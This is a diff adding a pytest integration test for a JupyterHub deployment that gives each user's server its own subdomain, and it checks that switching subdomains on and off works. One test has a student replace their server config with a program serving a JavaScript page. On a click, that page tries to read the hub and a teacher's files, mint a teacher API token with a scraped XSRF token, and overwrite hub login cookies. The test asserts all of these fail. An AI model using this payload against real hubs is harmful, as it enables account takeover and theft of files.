@@ -1,0 +1,306 @@
+"""An address of its own for each person's server: switched on for a site in use, worked with, attacked, switched off.
+
+The attack is the one by which a student had everything of a teacher who looked at a page of theirs, while all servers
+shared the hub's address: the student's server is replaced by a program of their own.
+"""
+
+from __future__ import annotations
+
+import json
+import shutil
+from collections.abc import Iterator
+from typing import Any
+from urllib.parse import quote, urlsplit
+
+import pytest
+from canvas import key_and_secret
+from machines import Ended, Machine, hubrun
+from playwright.sync_api import Page, sync_playwright
+
+from hubrun import params
+from hubrun.hub import matrix13
+from hubrun.hub.browser import Browser
+from hubrun.hub.connect_to import Route
+from hubrun.hub.front.hosts import host
+from hubrun.hub.lms import Person
+from hubrun.hub.temporary_consumer import temporary_consumer
+from hubrun.params import Site
+from hubrun.server import Server
+from lti_platform import signed_form
+
+pytestmark = [pytest.mark.server, pytest.mark.browser, pytest.mark.timeout(600)]
+
+ON = ("--set", "subdomains=true", "--set", "acme_dns=rfc2136")
+STUDENT, EVIL, TEACHER = "rae", "mallory", "t.each"
+COURSE = "SUB 101"
+FLAGS = (
+    "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
+    "--disable-component-update", "--disable-sync",
+)  # fmt: skip
+
+# What a student's home makes of their server: Jupyter reads this file before it listens.
+_EVIL_SERVER = """
+import http.server
+
+class Page(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        body = PAGE.encode()
+        self.send_response(200)
+        self.send_header("Content-Type", "text/html")
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+    do_POST = do_GET
+
+http.server.ThreadingHTTPServer(("0.0.0.0", 8888), Page).serve_forever()
+"""
+# On a click it tries to read the hub's pages and the teacher's files and to make a token, in each way that a page has.
+_EVIL_PAGE = """<!doctype html><title>Homework</title><button>Show</button><pre></pre><script>
+const hub = HUB, home = HOME, teacher = TEACHER;
+async function read(url, options) {
+    const answer = await fetch(url, {credentials: "include", ...options});
+    const text = await answer.text();
+    if (!answer.ok) throw new Error(answer.status);
+    return text;
+}
+async function look(url) {
+    const opened = window.open(url);
+    await new Promise(resolve => setTimeout(resolve, 3000));
+    try { return opened.document.body.innerText; } finally { opened.close(); }
+}
+async function framed(url) {
+    const frame = document.createElement("iframe");
+    frame.src = url;
+    document.body.append(frame);
+    await new Promise(resolve => setTimeout(resolve, 2000));
+    if (!frame.contentDocument.body.innerText) throw new Error("nothing is shown");
+    return frame.contentDocument.body.innerText;
+}
+async function token(base) {
+    const page = await read(base + "/hub/home");
+    const xsrf = (page.match(/xsrf_token: "([^"]+)"/) || [])[1];
+    const headers = {"X-XSRFToken": xsrf, "Content-Type": "application/json"};
+    return read(`${base}/hub/api/users/${teacher}/tokens`, {method: "POST", body: "{}", headers});
+}
+const attacks = {
+    "hub home": () => read(hub + "/hub/home"),
+    "hub home here": () => read("/hub/home"),
+    "token": () => token(hub),
+    "token here": () => token(""),
+    "token unread": () => read(`${hub}/hub/api/users/${teacher}/tokens`, {method: "POST", body: "{}", mode: "no-cors"})
+        .then(text => { if (!text) throw new Error("nothing can be read"); return text; }),
+    "files": () => read(home + "api/contents/"),
+    "files by the hub": () => read(`${hub}/user/${teacher}/api/contents/`),
+    "window of the hub": () => look(hub + "/hub/home"),
+    "window of the teacher's server": () => look(home + "api/contents/"),
+    "frame of the hub": () => framed(hub + "/hub/home"),
+};
+document.querySelector("button").onclick = async () => {
+    const came = {};
+    for (const [name, attack] of Object.entries(attacks)) {
+        try { came[name] = "GOT " + (await attack()).slice(0, 60); } catch (error) { came[name] = "no: " + error; }
+    }
+    for (const cookie of ["jupyterhub-hub-login", "__Host-jupyterhub-hub-login", "_xsrf"])
+        document.cookie = `${cookie}=evil; domain=${new URL(hub).hostname}; path=/hub/; secure`;
+    document.querySelector("pre").innerText = JSON.stringify(came);
+};
+</script>"""
+
+
+class People:
+    """Canvas, and browsers that follow its launches to people's addresses."""
+
+    def __init__(self, machine: Machine, site: Site) -> None:
+        self.machine, self.site = machine, site
+        self.key, self.secret = key_and_secret(machine)
+        self.browsers: list[Browser] = []
+
+    def form(self, name: str, path: str = "", **fields: Any) -> tuple[str, dict[str, str]]:
+        url = self.site.launch_url + (f"?custom_next={quote(path, safe='')}" if path else "")
+        return url, signed_form(url, self.key, self.secret, name, **{"course": COURSE, **fields})
+
+    def launch(self, name: str, path: str = "", **fields: Any) -> Browser:
+        browser = Browser(Route(self.site.url, self.site.public_address, trust_ca_file=self.site.trust_ca_file))
+        self.browsers.append(browser)
+        launch = browser.launch(*self.form(name, path, **fields))
+        assert launch.user == name, launch.came
+        return browser
+
+    def at(self, name: str, path: str = "") -> str:
+        """The address of a person's server."""
+        port = urlsplit(self.site.url).port
+        return f"https://{host(name, self.site.domain)}:{port}/user/{name}/{path}"
+
+
+@pytest.fixture(scope="module")
+def site(machine: Machine) -> Site:
+    return params.load(machine.site, {"subdomains": "true", "acme_dns": "rfc2136"})
+
+
+@pytest.fixture(scope="module")
+def before(machine: Machine, site: Site) -> Iterator[Browser]:
+    """A student who works while the site is switched, in a server that was started before."""
+    browser = People(machine, site).launch("early")
+    browser.start()
+    browser.run_cell("kept = 6 * 7")
+    browser.write_file("kept.txt", "kept")
+    with browser:
+        yield browser
+
+
+@pytest.fixture(scope="module")
+def switched(machine: Machine, before: Browser) -> Iterator[Ended]:
+    """The site with addresses for people, as `install` makes it; and without again at the end."""
+    ended = hubrun("install", machine.site, *ON, "--only", "03")
+    assert ended.code == 0, ended.tail
+    yield ended
+
+
+@pytest.fixture(scope="module")
+def people(machine: Machine, site: Site, switched: Ended) -> Iterator[People]:
+    people = People(machine, site)
+    yield people
+    for browser in people.browsers:
+        browser.close()
+
+
+def test_switching_it_on_gets_a_wildcard_certificate_and_then_there_is_nothing_to_do(
+    machine: Machine, switched: Ended
+) -> None:
+    names = machine.run("openssl x509 -noout -ext subjectAltName < /etc/letsencrypt/live/*/cert.pem")
+    assert f"DNS:*.{machine.info['domain']}" in names
+    assert machine.run("stat -c %a:%U /etc/letsencrypt/hubrun-dns-credentials").strip() == "600:root"
+    key = next(line for line in (machine.site.parent / "dns.ini").read_text().splitlines() if "secret" in line)
+    secret = key.rpartition(" ")[2]
+    assert secret not in switched.output
+    assert not [path for path in switched.record.iterdir() if secret in path.read_text(errors="replace")]
+    plan = hubrun("plan", machine.site, *ON)
+    assert plan.code == 0, plan.tail
+
+
+def test_a_server_that_ran_goes_on_at_its_new_address(machine: Machine, people: People, before: Browser) -> None:
+    again = people.launch("early")
+    assert again.start() == people.at("early", "lab")
+    assert again.read_file("kept.txt") == "kept"
+    again.kernel_id = before.kernel_id
+    assert again.run_cell("kept") == "42"
+
+
+def test_whoever_is_launched_works_at_an_address_of_their_own(machine: Machine, people: People) -> None:
+    student = people.launch(STUDENT)
+    assert student.start() == people.at(STUDENT, "lab")
+    assert student.run_cell("6*7") == "42"
+    assert student.get("/hub/token").status_code == 200
+    assert people.at(STUDENT) in student.get("/hub/home").text or f"/user/{STUDENT}/" in student.get("/hub/home").text
+    # A link into nbgitpuller, such as 05 shows, leads there too.
+    linked = people.launch(STUDENT, "/hub/user-redirect/git-pull?repo=https%3A%2F%2Fgit.example.edu%2Fx")
+    page = linked.get("/hub/user-redirect/git-pull?repo=https%3A%2F%2Fgit.example.edu%2Fx")
+    assert str(page.url).startswith(people.at(STUDENT, "git-pull")), page.url
+    # Somebody else reaches the address, and not the server.
+    other = people.launch("sol")
+    for url in (people.at(STUDENT, "lab"), people.at(STUDENT, "api/contents"), f"/user/{STUDENT}/lab"):
+        assert other.get(url).status_code in (403, 404), url
+    # Logged out at the hub, nobody is logged in anywhere.
+    student.get("/hub/logout")
+    assert student.get(people.at(STUDENT, "api/contents")).status_code == 403
+
+
+def test_lti_13_and_names_that_are_no_part_of_an_address(machine: Machine, people: People) -> None:
+    with Server.connect(people.site) as server, temporary_consumer(server) as lms:
+        browser = Browser(people.launch("sol").route)
+        people.browsers.append(browser)
+        launch = matrix13.launch(browser, lms, Person("o.brien", people.site.lti_username_key))
+        assert launch.user.endswith("__o.brien"), launch.came
+    assert browser.start() == people.at(launch.user, "lab")
+    assert urlsplit(browser.lab_url).hostname == host(launch.user, people.site.domain)
+    assert browser.run_cell("6*7") == "42"
+
+
+def test_the_last_runbook_passes(machine: Machine, switched: Ended) -> None:
+    ended = hubrun("install", machine.site, *ON, "--only", "06")
+    assert ended.code == 0, ended.tail
+
+
+@pytest.fixture(scope="module")
+def evil(machine: Machine, people: People) -> str:
+    """The address of a page that a student's program serves in the place of their server."""
+    page = _EVIL_PAGE
+    for name, value in (("HUB", people.site.url), ("HOME", people.at(TEACHER)), ("TEACHER", TEACHER)):
+        page = page.replace(f"= {name},", f"= {json.dumps(value)},").replace(f"= {name};", f"= {json.dumps(value)};")
+    student = people.launch(EVIL)
+    student.start()
+    student.write_file("evil.py", f"PAGE = {page!r}\n{_EVIL_SERVER}")
+    student.run_cell("""
+import os, pathlib, shutil
+folder = pathlib.Path.home() / ".jupyter"
+folder.mkdir(exist_ok=True)
+shutil.move(pathlib.Path.home() / "evil.py", folder / "jupyter_server_config.py")
+""")
+    student.stop()
+    student.get("/hub/spawn", 120)
+    for _ in range(120):
+        found = student.get(people.at(EVIL, "evil"), 120)
+        if "Homework" in found.text:
+            break
+    assert "Homework" in found.text, found.text[-1000:]
+    return people.at(EVIL, "evil")
+
+
+def click(page: Page, url: str) -> dict[str, str]:
+    """What a page of a student's got when somebody clicked on it: by attack."""
+    page.goto(url)
+    page.get_by_role("button").click()
+    page.wait_for_function("document.querySelector('pre').innerText", timeout=60_000)
+    return dict(json.loads(page.locator("pre").inner_text()))
+
+
+def test_a_students_page_can_do_nothing_as_the_teacher_who_looks_at_it(
+    machine: Machine, people: People, evil: str
+) -> None:
+    teacher = people.launch(TEACHER, role="Instructor")
+    teacher.start()
+    grader = teacher.get(f"{teacher.home_path}formgrader")
+    assert grader.status_code == 200 and "formgrader" in grader.text.lower()
+    tokens = "SELECT count(*) FROM api_tokens JOIN users ON users.id = user_id WHERE users.name = '" + TEACHER + "'"
+    count = f"/opt/jupyterhub/bin/python -c \"import sqlite3; print(*sqlite3.connect('/var/lib/jupyterhub/jupyterhub.sqlite').execute({tokens!r}).fetchone())\""
+    url, form = people.form(TEACHER, role="Instructor")
+    with sync_playwright() as playwright:
+        chromium = playwright.chromium.launch(executable_path=shutil.which("chromium"), args=FLAGS)
+        context = chromium.new_context(ignore_https_errors=True)
+        page = context.new_page()
+        fields = "".join(
+            f"<input name='{name}' value='{value.replace(chr(39), '&#39;')}'>" for name, value in form.items()
+        )
+        page.set_content(f"<form action='{url}' method=post>{fields}</form><script>document.forms[0].submit()</script>")
+        page.wait_for_url(f"{people.at(TEACHER)}lab**", timeout=120_000)
+        made = machine.run(count)
+        came = click(page, evil)
+        assert len(came) == 10 and not [name for name, text in came.items() if text.startswith("GOT")], came
+        # The cookies that the page set for the hub did not take the teacher's place there.
+        page.goto(f"{people.site.url}/hub/home")
+        assert f'user: "{TEACHER}"' in page.content()
+        assert machine.run(count) == made, "a token was made"
+        chromium.close()
+
+
+def test_switching_it_off_leads_everybody_back_to_one_address(machine: Machine, people: People, evil: str) -> None:
+    plan = hubrun("plan", machine.site)
+    assert plan.code == 2, plan.tail
+    assert "students' servers, which have addresses that are no longer; their files stay" in plan.output
+    ended = hubrun("install", machine.site, "--only", "03")
+    assert ended.code == 0, ended.tail
+    plan = hubrun("plan", machine.site)
+    assert plan.code == 0, plan.tail
+    assert "DNS:*." not in machine.run("openssl x509 -noout -ext subjectAltName < /etc/letsencrypt/live/*/cert.pem")
+    assert (
+        machine.run("ls /etc/letsencrypt/hubrun-dns-credentials 2>&1; true")
+        .strip()
+        .endswith("No such file or directory")
+    )
+    student = people.launch("early")
+    assert student.start() == f"{people.site.url}/user/early/lab"
+    assert student.read_file("kept.txt") == "kept"
+    for name in ("early", "sol", STUDENT, EVIL, TEACHER):
+        machine.run(
+            'docker rm -f "jupyter-$1"; docker volume rm -f "jupyterhub-user-$1"; true', name.replace(".", "-2e")
+        )
